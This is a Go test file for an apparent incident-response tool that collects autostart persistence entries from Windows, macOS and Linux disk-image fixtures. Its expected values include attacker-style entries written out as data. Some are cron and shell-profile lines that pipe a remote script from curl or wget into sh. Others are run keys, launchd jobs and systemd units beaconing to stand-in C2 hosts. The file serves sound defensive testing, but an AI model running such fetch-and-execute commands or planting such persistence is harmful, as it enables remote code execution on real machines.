package persist

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cascade-ir/cascade/internal/collect"
	"github.com/cascade-ir/cascade/internal/collect/collecttest"
	"github.com/cascade-ir/cascade/internal/collect/software/windows"
	"github.com/cascade-ir/cascade/internal/snapshot"
	"github.com/cascade-ir/cascade/internal/testutil"
)

var (
	fixtureOnce sync.Once
	fixtureDir  string
)

// fixture builds testdata/fixtures/persist.sh once per test binary.
func fixture(t *testing.T) string {
	t.Helper()
	testutil.NeedTools(t, "hivexregedit", "python3", "sqlite3")
	fixtureOnce.Do(func() {
		dir, err := os.MkdirTemp("", "persist-fixture-")
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command("bash", filepath.Join(testutil.RepoRoot(t), "testdata/fixtures/persist.sh"), dir)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("persist.sh: %v\n%s", err, out)
		}
		fixtureDir = dir
	})
	if fixtureDir == "" {
		t.Fatal("fixture not built")
	}
	return fixtureDir
}

func TestMain(m *testing.M) {
	code := m.Run()
	if fixtureDir != "" {
		os.RemoveAll(fixtureDir)
	}
	os.Exit(code)
}

// imageEnv is an Env over dir as an image of osName, with the display
// paths cascade gives such an image.
func imageEnv(dir, osName string) *collect.Env {
	env := collecttest.ImageEnv(os.DirFS(dir), osName)
	if osName == "windows" {
		env.Display = func(rel string) string { return `C:\` + strings.ReplaceAll(rel, "/", `\`) }
	}
	return env
}

// runAll runs every collector of the package over one tree.
func runAll(t *testing.T, env *collect.Env) *collecttest.Sink {
	t.Helper()
	sink := &collecttest.Sink{}
	for _, c := range Collectors() {
		collecttest.Walk(t, env, c, sink)
	}
	return sink
}

// find returns the entry of mechanism mech named name.
func find(as []snapshot.Artifact, mech, name string) *snapshot.Artifact {
	for i := range as {
		if as[i].Mechanism == mech && as[i].Name == name {
			return &as[i]
		}
	}
	return nil
}

type want struct {
	mech, name, command, args, program, runAs, trigger, timeFrom string
	disabled                                                     bool
	url                                                          string
}

func check(t *testing.T, as []snapshot.Artifact, ws []want) {
	t.Helper()
	for _, w := range ws {
		a := find(as, w.mech, w.name)
		if a == nil {
			t.Errorf("%s %q: missing", w.mech, w.name)
			continue
		}
		got := want{a.Mechanism, a.Name, a.Command, a.Args, a.ProgramPath, a.RunAs, a.Trigger, a.TimeFrom, a.Disabled, a.URL}
		if got != w {
			t.Errorf("%s %q:\n got %+v\nwant %+v", w.mech, w.name, got, w)
		}
		if a.Kind != snapshot.ArtifactPersistence || a.Source == "" || a.LastSeen == nil {
			t.Errorf("%s %q: kind %q source %q time %v", w.mech, w.name, a.Kind, a.Source, a.LastSeen)
		}
	}
}

func TestWindowsImage(t *testing.T) {
	sink := runAll(t, imageEnv(filepath.Join(fixture(t), "windows"), "windows"))
	as := sink.Artifacts
	check(t, as, []want{
		{"windows-service", "FixUpdSvc", `%ProgramData%\FixUpd\fixupd.dll`, `%SystemRoot%\System32\svchost.exe -k netsvcs`,
			`C:\ProgramData\FixUpd\fixupd.dll`, "LocalSystem", "start=auto type=0x20", TimeKeyLastWrite, false, ""},
		{"windows-service", "Tcpip", `System32\drivers\tcpip.sys`, "", `C:\Windows\System32\drivers\tcpip.sys`, "",
			"start=boot type=0x1", TimeKeyLastWrite, false, ""},
		{"windows-service", "Dormant", `C:\Program Files\Dormant\dormant.exe`, "/service", `C:\Program Files\Dormant\dormant.exe`,
			`NT AUTHORITY\LocalService`, "start=disabled type=0x10", TimeKeyLastWrite, true, ""},
		{"run-key", "FixUpd", `C:\ProgramData\FixUpd\updater.exe`, "--silent --interval 3600", `C:\ProgramData\FixUpd\updater.exe`,
			"", "logon", TimeKeyLastWrite, false, ""},
		{"run-key", "Helper", `C:\Program Files (x86)\Helper Tools\helper.exe`, "/background",
			`C:\Program Files (x86)\Helper Tools\helper.exe`, "", "logon", TimeKeyLastWrite, false, ""},
		{"run-key", "1", `C:\Windows\Temp\stage2.exe`, "/q", `C:\Windows\Temp\stage2.exe`, "", "logon", TimeKeyLastWrite, false, ""},
		{"run-key", "Pol", `C:\Windows\pol.exe`, "", `C:\Windows\pol.exe`, "", "logon", TimeKeyLastWrite, false, ""},
		{"run-key", "SyncTool", `%APPDATA%\SyncTool\sync.exe`, "-connect https://c2.persist.example/beacon?id=7",
			`C:\Users\alice\AppData\Roaming\SyncTool\sync.exe`, "alice", "logon", TimeKeyLastWrite, false,
			"https://c2.persist.example/beacon?id=7"},
		{"run-key", "Cleanup", "cmd.exe", `/c del C:\Users\alice\tmp.txt`, `C:\Windows\System32\cmd.exe`, "alice", "logon",
			TimeKeyLastWrite, false, ""},
		{"winlogon", "Shell", "explorer.exe", "", `C:\Windows\System32\explorer.exe`, "", "logon", TimeKeyLastWrite, false, ""},
		{"scheduled-task", `\FixUpd Updater`, `C:\ProgramData\FixUpd\updater.exe`, "/task --from https://dl.persist.example/u",
			`C:\ProgramData\FixUpd\updater.exe`, "S-1-5-18", `Logon, Time; author WKS\installer`, TimeRegistered, false,
			"https://dl.persist.example/u"},
		{"scheduled-task", `\Microsoft\Windows\Defrag\ScheduledDefrag`, `%windir%\system32\defrag.exe`, "-c -h -o -$",
			`C:\Windows\system32\defrag.exe`, "S-1-5-18", "", TimeRegistered, true, ""},
		{"startup-folder", "updater.lnk", `C:\ProgramData\FixUpd\updater.exe`, "--startup --quiet",
			`C:\ProgramData\FixUpd\updater.exe`, "", "logon", TimeFileMtime, false, ""},
	})
	if a := find(as, "scheduled-task", `\FixUpd Updater`); a != nil && !a.LastSeen.Equal(time.Date(2022, 4, 12, 9, 30, 0, 0, time.UTC)) {
		t.Errorf("task registration date %v, want 2022-04-12 09:30 UTC", a.LastSeen)
	}
	for _, a := range as {
		if strings.Contains(a.Source, "ControlSet002") || a.Name == "NoImage" {
			t.Errorf("read outside the current control set or a service with no program: %+v", a)
		}
	}
	// Userinit's list gives one entry per program.
	n := 0
	for _, a := range as {
		if a.Mechanism == "winlogon" && a.Name == "Userinit" {
			n++
		}
	}
	if n != 2 {
		t.Errorf("Userinit entries: %d, want 2", n)
	}
	wantErr(t, sink.Errors, "Windows/System32/Tasks/Hostile/XXE", "document type declarations are refused")
	if len(sink.Errors) != 1 {
		t.Errorf("errors beyond the hostile task: %+v", sink.Errors)
	}
}

// TestEmptyHives: hives without the keys read give no entries and no
// errors (an empty hive is not a problem).
func TestEmptyHives(t *testing.T) {
	tmpl, err := os.ReadFile(filepath.Join(testutil.RepoRoot(t), "internal/collect/software/windows/testdata/minimal.hive"))
	if err != nil {
		t.Fatal(err)
	}
	err = windows.ParseHive(tmpl, func(root *windows.Key) error {
		add := func(a snapshot.Artifact) { t.Errorf("entry from an empty hive: %+v", a) }
		for _, errs := range [][]error{services(windows.AsRegKey(root), add), runKeys(windows.AsRegKey(root), "x", "", add), runKeys(windows.AsRegKey(root), "x", "u", add)} {
			if len(errs) != 0 {
				t.Errorf("errors from an empty hive: %v", errs)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func wantErr(t *testing.T, errs []snapshot.PathError, path, text string) {
	t.Helper()
	for _, e := range errs {
		if e.Path == path && strings.Contains(e.Err, text) && e.Stage != "" {
			return
		}
	}
	t.Errorf("no error for %s containing %q in %+v", path, text, errs)
}

func TestMacOSImage(t *testing.T) {
	sink := runAll(t, imageEnv(filepath.Join(fixture(t), "macos"), "macos"))
	check(t, sink.Artifacts, []want{
		{"launchd", "com.fixupd.daemon", "/Library/Application Support/FixUpd/fixupd", "--daemon --url https://c2.persist.example/m",
			"/Library/Application Support/FixUpd/fixupd", "root", "RunAtLoad, KeepAlive=conditional", TimeFileMtime, false,
			"https://c2.persist.example/m"},
		{"launchd", "com.sync.agent", "/Users/alice/.local/sync", "--agent", "/Users/alice/.local/sync", "alice",
			"KeepAlive=true, StartInterval", TimeFileMtime, false, ""},
	})
	wantErr(t, sink.Errors, "Library/LaunchAgents/com.hostile.deep.plist", "nest")
}

func TestLinuxImage(t *testing.T) {
	sink := runAll(t, imageEnv(filepath.Join(fixture(t), "linux"), "linux"))
	check(t, sink.Artifacts, []want{
		{"systemd", "fixupd.service ExecStartPre", "/usr/bin/install", "-d /run/fixupd", "/usr/bin/install", "fixupd",
			"enabled (multi-user.target.wants)", TimeFileMtime, false, ""},
		{"systemd", "fixupd.service ExecStart", "/opt/fixupd/fixupd", "--serve --url https://c2.persist.example/l",
			"/opt/fixupd/fixupd", "fixupd", "enabled (multi-user.target.wants)", TimeFileMtime, false, "https://c2.persist.example/l"},
		{"systemd", "ssh.service ExecStart", "/usr/sbin/sshd", "-D -o LogLevel=DEBUG", "/usr/sbin/sshd", "root", "static",
			TimeFileMtime, false, ""},
		{"systemd", "idle.service ExecStart", "/usr/bin/idle-tool", "", "/usr/bin/idle-tool", "root",
			"not enabled; WantedBy=multi-user.target", TimeFileMtime, true, ""},
		{"systemd", "sync.service ExecStart", "/home/alice/.local/bin/sync", "--user", "/home/alice/.local/bin/sync", "",
			"enabled (default.target.wants)", TimeFileMtime, false, ""},
		{"cron", "@reboot root /opt/fixupd/fixupd --cron", "/opt/fixupd/fixupd", "--cron", "/opt/fixupd/fixupd", "root",
			"@reboot", TimeFileMtime, false, ""},
		{"cron", "*/5 * * * * root curl -s http://203.0.113.77/x.sh | sh", "curl", "-s http://203.0.113.77/x.sh | sh", "",
			"root", "*/5 * * * *", TimeFileMtime, false, "http://203.0.113.77/x.sh"},
		{"cron", "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly", "run-parts", "--report /etc/cron.hourly",
			"", "root", "17 * * * *", TimeFileMtime, false, ""},
		{"cron", "0 3 * * * /home/alice/.local/bin/sync --nightly %stdin text", "/home/alice/.local/bin/sync", "--nightly",
			"/home/alice/.local/bin/sync", "alice", "0 3 * * *", TimeFileMtime, false, ""},
		{"cron", "logrotate", "/etc/cron.daily/logrotate", "", "/etc/cron.daily/logrotate", "root", "cron.daily", TimeFileMtime, false, ""},
		{"rc-local", "/opt/fixupd/fixupd --boot &", "/opt/fixupd/fixupd", "--boot &", "/opt/fixupd/fixupd", "", "boot",
			TimeFileMtime, false, ""},
		{"shell-profile", "nohup /home/alice/.local/bin/sync --bashrc >/dev/null 2>&1 &", "/home/alice/.local/bin/sync",
			"--bashrc >/dev/null 2>&1 &", "/home/alice/.local/bin/sync", "", "login shell", TimeFileMtime, false, ""},
		{"shell-profile", "wget -q -O- https://dl.persist.example/p.sh | sh", "wget", "-q -O- https://dl.persist.example/p.sh | sh",
			"", "", "login shell", TimeFileMtime, false, "https://dl.persist.example/p.sh"},
	})
	// The stock parts of .bashrc start no program.
	for _, a := range sink.Artifacts {
		if a.Mechanism == "shell-profile" && a.Source == "/home/alice/.bashrc" && !strings.Contains(a.Name, "sync") {
			t.Errorf(".bashrc line recorded: %q", a.Name)
		}
		if a.Mechanism == "rc-local" && a.Command == "exit" {
			t.Error("rc.local's exit recorded")
		}
	}
	wantErr(t, sink.Errors, "etc/cron.d/fixupd", "line 2: not a cron entry")
	wantErr(t, sink.Errors, "etc/cron.d/huge", "only its start was read")
	wantErr(t, sink.Errors, "etc/cron.d/huge", "only the first 1000 were kept")
	huge := 0
	for _, a := range sink.Artifacts {
		if a.Source == "/etc/cron.d/huge" {
			huge++
		}
	}
	if huge != maxEntries {
		t.Errorf("huge cron file gave %d entries, want the cap %d", huge, maxEntries)
	}
}

// TestAgainstIndependentReaders checks the fixture's records against
// readers that share no code with this package: hivexregedit --export
// for services and Run values, lnkinfo (libyal liblnk) for the shortcut,
// plistutil (libplist) for the binary launchd plist, Python's
// xml.etree for the UTF-16 task.
func TestAgainstIndependentReaders(t *testing.T) {
	testutil.NeedTools(t, "lnkinfo", "plistutil")
	dir := fixture(t)
	win := runAll(t, imageEnv(filepath.Join(dir, "windows"), "windows")).Artifacts

	reg := run(t, "hivexregedit", "--export", filepath.Join(dir, "windows/Windows/System32/config/SOFTWARE"), `\Microsoft\Windows\CurrentVersion\Run`)
	// "FixUpd"=hex(1):… is UTF-16LE hex; decode what hivex exported.
	m := regexp.MustCompile(`"FixUpd"=hex\(1\):([0-9a-f,]+)`).FindStringSubmatch(reg)
	if m == nil {
		t.Fatalf("hivexregedit export has no FixUpd value:\n%s", reg)
	}
	ref := utf16Hex(m[1])
	if a := find(win, "run-key", "FixUpd"); a == nil || `"`+a.Command+`" `+a.Args != ref {
		t.Errorf("Run FixUpd: hivex says %q, we read %+v", ref, a)
	}

	lnk := run(t, "lnkinfo", filepath.Join(dir, "windows/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/updater.lnk"))
	local := field(lnk, "Local path")
	args := field(lnk, "Command line arguments")
	if a := find(win, "startup-folder", "updater.lnk"); a == nil || a.Command != local || a.Args != args {
		t.Errorf("lnkinfo says %q %q, we read %+v", local, args, a)
	}

	xml := run(t, "python3", "-c", `import sys, xml.etree.ElementTree as E
ns={"t":"http://schemas.microsoft.com/windows/2004/02/mit/task"}
r=E.fromstring(open(sys.argv[1],"rb").read().decode("utf-16"))
print(r.find("t:Actions/t:Exec/t:Command",ns).text.strip('"'))
print(r.find("t:Actions/t:Exec/t:Arguments",ns).text)`, filepath.Join(dir, "windows/Windows/System32/Tasks/FixUpd Updater"))
	lines := strings.Split(strings.TrimSpace(xml), "\n")
	if a := find(win, "scheduled-task", `\FixUpd Updater`); a == nil || len(lines) != 2 || a.Command != lines[0] || a.Args != lines[1] {
		t.Errorf("python says %q, we read %+v", lines, a)
	}

	mac := runAll(t, imageEnv(filepath.Join(dir, "macos"), "macos")).Artifacts
	pl := run(t, "plistutil", "-i", filepath.Join(dir, "macos/Users/alice/Library/LaunchAgents/com.sync.agent.plist"), "-f", "xml", "-o", "-")
	prog := regexp.MustCompile(`<key>Program</key>\s*<string>([^<]*)</string>`).FindStringSubmatch(pl)
	if a := find(mac, "launchd", "com.sync.agent"); prog == nil || a == nil || a.Command != prog[1] {
		t.Errorf("plistutil says Program %v, we read %+v", prog, a)
	}
}

func run(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).Output()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return string(out)
}

// field returns the value of a "Name : value" line of lnkinfo's output.
func field(out, name string) string {
	for _, l := range strings.Split(out, "\n") {
		k, v, ok := strings.Cut(l, ":")
		if ok && strings.TrimSpace(k) == name {
			return strings.TrimSpace(v)
		}
	}
	return ""
}

// utf16Hex decodes hivex's hex(1) form: UTF-16LE bytes as comma-separated
// hex, ending in a NUL.
func utf16Hex(h string) string {
	var b []byte
	for _, x := range strings.Split(h, ",") {
		var v byte
		for _, c := range x {
			v = v*16 + byte(strings.IndexRune("0123456789abcdef", c))
		}
		b = append(b, v)
	}
	var s []rune
	for i := 0; i+1 < len(b); i += 2 {
		if r := rune(b[i]) | rune(b[i+1])<<8; r != 0 {
			s = append(s, r)
		}
	}
	return string(s)
}
